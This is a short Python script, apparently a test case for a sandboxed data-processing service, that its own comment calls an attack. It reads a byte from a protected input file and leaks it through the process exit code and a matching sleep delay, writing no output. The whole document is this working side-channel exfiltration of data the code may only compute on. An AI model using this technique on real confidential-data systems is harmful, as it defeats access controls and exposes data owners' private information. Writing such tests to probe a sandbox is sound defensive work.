# Attack: leaks a byte of the data through the exit code (and the run time), writing nothing.
import json, os, sys, time
did = json.loads(os.environ["DIDS"])[0]
with open(f"/data/inputs/{did}/0", "rb") as data:
    byte = data.read(40)[-1]
time.sleep(byte / 1000)
sys.exit(byte)
